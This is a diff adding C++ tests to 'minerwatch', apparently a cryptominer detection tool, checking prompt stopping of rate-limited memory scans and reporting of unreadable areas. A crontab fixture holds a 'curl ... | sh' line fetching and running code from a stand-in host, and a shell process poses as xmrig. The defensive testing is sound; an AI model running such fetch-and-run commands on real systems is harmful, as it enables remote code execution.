@@ -1,5 +1,6 @@
 // minerwatch — SPDX-License-Identifier: Apache-2.0
 #include <arpa/inet.h>
+#include <grp.h>
 #include <gtest/gtest.h>
 #include <netinet/in.h>
 #include <signal.h>
@@ -8,12 +9,15 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include <chrono>
 #include <cstring>
 #include <filesystem>
 #include <fstream>
 #include <random>
 #include <set>
+#include <thread>
 
+#include "hostscan/host_monitor.h"
 #include "hostscan/host_scanner.h"
 #include "hostscan/memory_scanner.h"
 #include "hostscan/page_db.h"
@@ -624,6 +628,208 @@ TEST(Persistence, FixtureRootFindsEachAndCleanRootNothing) {
   EXPECT_TRUE(ScanPersistence(PersistenceOptions{.root = clean.string()}, &errors).empty());
   fs::remove_all(root);
   fs::remove_all(clean);
+}
+
+// ---- stopping promptly, and saying what could not be read ----
+
+// A shell that looks like a miner by its command line and holds libc and its own image (a few
+// MB: minutes at the read rates below). Not a fork of this test, which would be skipped as
+// "another minerwatch process".
+pid_t SpawnShellMiner() {
+  pid_t pid = fork();
+  if (pid == 0) {
+    execl("/bin/sh", "/bin/sh", "-c", "while :; do sleep 1; done", "xmrig", "--donate-level", "1",
+          nullptr);
+    _exit(127);
+  }
+  // Until exec has happened the child is still a copy of this process.
+  for (int i = 0; i < 200; ++i) {
+    std::error_code ec;
+    if (fs::read_symlink("/proc/" + std::to_string(pid) + "/exe", ec) !=
+        fs::read_symlink("/proc/self/exe", ec))
+      break;
+    std::this_thread::sleep_for(std::chrono::milliseconds(10));
+  }
+  return pid;
+}
+
+void Reap(pid_t pid) {
+  kill(pid, SIGKILL);
+  waitpid(pid, nullptr, 0);
+}
+
+double SecondsSince(std::chrono::steady_clock::time_point t0) {
+  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
+}
+
+TEST(Stop, SleepUnlessStoppedWakesOnRequest) {
+  std::stop_source src;
+  auto t0 = std::chrono::steady_clock::now();
+  std::thread t([&] {
+    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+    src.request_stop();
+  });
+  EXPECT_FALSE(SleepUnlessStopped(std::chrono::seconds(30), src.get_token()));
+  t.join();
+  EXPECT_LT(SecondsSince(t0), 5.0);
+  EXPECT_TRUE(SleepUnlessStopped(std::chrono::milliseconds(1), std::stop_token{}));
+}
+
+TEST(Stop, RateLimitedMemoryScanEndsWithinAChunkOfTheRequest) {
+  pid_t child = SpawnShellMiner();
+  ASSERT_GT(child, 0);
+  MemScanOptions o;
+  o.read_rate_bytes_per_sec = 64 << 10;  // libc alone would take half a minute
+  o.hash_exec_pages = false;
+  MemoryScanner scanner(nullptr, o);
+  std::stop_source src;
+  scanner.BeginPass(src.get_token());
+  std::thread stopper([&] {
+    std::this_thread::sleep_for(std::chrono::milliseconds(300));
+    src.request_stop();
+  });
+  auto t0 = std::chrono::steady_clock::now();
+  ProcessMemResult r = scanner.ScanProcess(child, "/", "/bin/sh");
+  double took = SecondsSince(t0);
+  stopper.join();
+  Reap(child);
+  EXPECT_TRUE(r.interrupted);
+  EXPECT_GT(r.stats.bytes_read, 0u);
+  EXPECT_LT(took, 3.0);
+}
+
+class CollectingSink final : public FindingSink {
+ public:
+  Status Write(std::span<const Finding> f) override {
+    std::lock_guard lock(mu);
+    for (const auto& x : f) got.push_back(x);
+    return Ok();
+  }
+  Status Flush() override { return Ok(); }
+  size_t count(std::string_view category) {
+    std::lock_guard lock(mu);
+    return size_t(std::count_if(got.begin(), got.end(),
+                                [&](const Finding& f) { return f.category == category; }));
+  }
+  std::mutex mu;
+  std::vector<Finding> got;
+};
+
+TEST(Stop, MonitorStopsAPassInItsRateLimiterAndKeepsWhatItFound) {
+  pid_t child = SpawnShellMiner();
+  ASSERT_GT(child, 0);
+  HostMonitorOptions o;
+  o.scan.pids = {child};
+  o.scan.cpu_sample_ms = 0;
+  o.scan.scan_persistence = false;
+  o.scan.memory.read_rate_bytes_per_sec = 64 << 10;
+  o.low_priority = false;
+  CollectingSink sink;
+  HostMonitor monitor(o, &sink);
+  ASSERT_TRUE(monitor.Start());
+  // The inventory finding arrives before the memory phase, which is then known to be running.
+  for (int i = 0; i < 500 && sink.count(category::kMinerProcess) == 0; ++i)
+    std::this_thread::sleep_for(std::chrono::milliseconds(10));
+  ASSERT_EQ(sink.count(category::kMinerProcess), 1u);
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  ASSERT_TRUE(monitor.stats().pass_running);
+  auto t0 = std::chrono::steady_clock::now();
+  monitor.Stop();
+  double took = SecondsSince(t0);
+  Reap(child);
+  EXPECT_LT(took, 3.0);
+  HostMonitorStats st = monitor.stats();
+  EXPECT_EQ(st.passes, 1u);
+  EXPECT_EQ(st.passes_incomplete, 1u);
+  EXPECT_FALSE(st.pass_running);
+  EXPECT_TRUE(st.last_report.coverage.interrupted);
+  auto why = IncompleteReasons(st.last_report);
+  ASSERT_FALSE(why.empty());
+  EXPECT_EQ(why[0], "stopped before the end of the pass");
+  EXPECT_EQ(ReportJson(st.last_report)["complete"], false);
+}
+
+TEST(Coverage, ReasonsFollowFromTheCounts) {
+  HostScanReport r;
+  EXPECT_TRUE(IncompleteReasons(r).empty());
+  EXPECT_EQ(ReportJson(r)["complete"], true);
+  r.processes_vanished = 3;  // exited mid-scan: not a blind spot
+  r.memory.regions_over_budget = 9;
+  EXPECT_TRUE(IncompleteReasons(r).empty());
+  r.coverage.processes_memory_denied = 2;
+  r.coverage.unreadable_paths = {"/var/spool/cron/crontabs: Permission denied"};
+  auto why = IncompleteReasons(r);
+  ASSERT_EQ(why.size(), 2u);
+  EXPECT_EQ(why[0], "2 processes: memory not readable (needs root or CAP_SYS_PTRACE)");
+  EXPECT_EQ(why[1], "autostart not checked: /var/spool/cron/crontabs: Permission denied");
+  nlohmann::json j = ReportJson(r);
+  EXPECT_EQ(j["complete"], false);
+  EXPECT_EQ(j["memory"]["processes_denied"], 2);
+  EXPECT_EQ(j["unreadable_paths"][0], "/var/spool/cron/crontabs: Permission denied");
+}
+
+// Runs "body" in a child as nobody (65534) and returns its exit status; the body reports which
+// check failed by its exit code.
+int AsNobody(const std::function<int()>& body) {
+  pid_t pid = fork();
+  if (pid == 0) {
+    if (setgroups(0, nullptr) != 0 || setgid(65534) != 0 || setuid(65534) != 0) _exit(100);
+    _exit(body());
+  }
+  int status = 0;
+  waitpid(pid, &status, 0);
+  return WIFEXITED(status) ? WEXITSTATUS(status) : 200;
+}
+
+TEST(Coverage, UnprivilegedScanNamesWhatItCouldNotRead) {
+  if (geteuid() != 0) GTEST_SKIP() << "needs root: starts a process and a folder nobody may read";
+  fs::path root = TempDir("blind");
+  fs::permissions(root, fs::perms(0755));
+  WriteFile(root / "etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n");
+  WriteFile(root / "var/spool/cron/crontabs/root", "* * * * * curl -s http://x.example/a | sh\n");
+  for (const char* d : {"etc", "var", "var/spool", "var/spool/cron"})
+    fs::permissions(root / d, fs::perms(0755));
+  fs::permissions(root / "var/spool/cron/crontabs", fs::perms(0700));
+  pid_t target = SpawnShellMiner();
+  ASSERT_GT(target, 0);
+
+  int code = AsNobody([&] {
+    MemoryScanner ms(nullptr, MemScanOptions{});
+    ProcessMemResult mem = ms.ScanProcess(target, "/", "/bin/sh");
+    if (!mem.denied || mem.stats.bytes_read != 0) return 1;
+    ProcReader reader(ReadOptions{});
+    auto p = reader.Read(target);
+    if (!p || !p->access_denied) return 2;
+    PersistenceCoverage pc;
+    auto hits = ScanPersistence(PersistenceOptions{.root = root.string()}, nullptr, &pc);
+    if (!hits.empty()) return 3;  // the miner's crontab is exactly what it could not see
+    if (pc.unreadable != std::vector<std::string>{"/var/spool/cron/crontabs: Permission denied"})
+      return 4;
+    HostScanOptions o;
+    o.pids = {target};
+    o.cpu_sample_ms = 0;
+    o.scan_persistence = false;
+    HostScanner scanner(o);
+    FindingEmitter out;
+    HostScanReport rep = scanner.RunPass(out);
+    if (rep.coverage.processes_memory_denied != 1 || rep.coverage.denied.empty()) return 5;
+    if (rep.coverage.denied[0].find("pid " + std::to_string(target)) != 0) return 6;
+    if (IncompleteReasons(rep).empty()) return 7;
+    return 0;
+  });
+  EXPECT_EQ(code, 0) << "check " << code << " failed as nobody";
+
+  // As root the same scan reads everything and finds the crontab.
+  MemoryScanner ms(nullptr, MemScanOptions{});
+  ProcessMemResult mem = ms.ScanProcess(target, "/", "/bin/sh");
+  EXPECT_FALSE(mem.denied);
+  EXPECT_GT(mem.stats.bytes_read, 0u);
+  PersistenceCoverage pc;
+  auto hits = ScanPersistence(PersistenceOptions{.root = root.string()}, nullptr, &pc);
+  EXPECT_EQ(hits.size(), 1u);
+  EXPECT_TRUE(pc.unreadable.empty());
+  Reap(target);
+  fs::remove_all(root);
 }
 
 }  // namespace
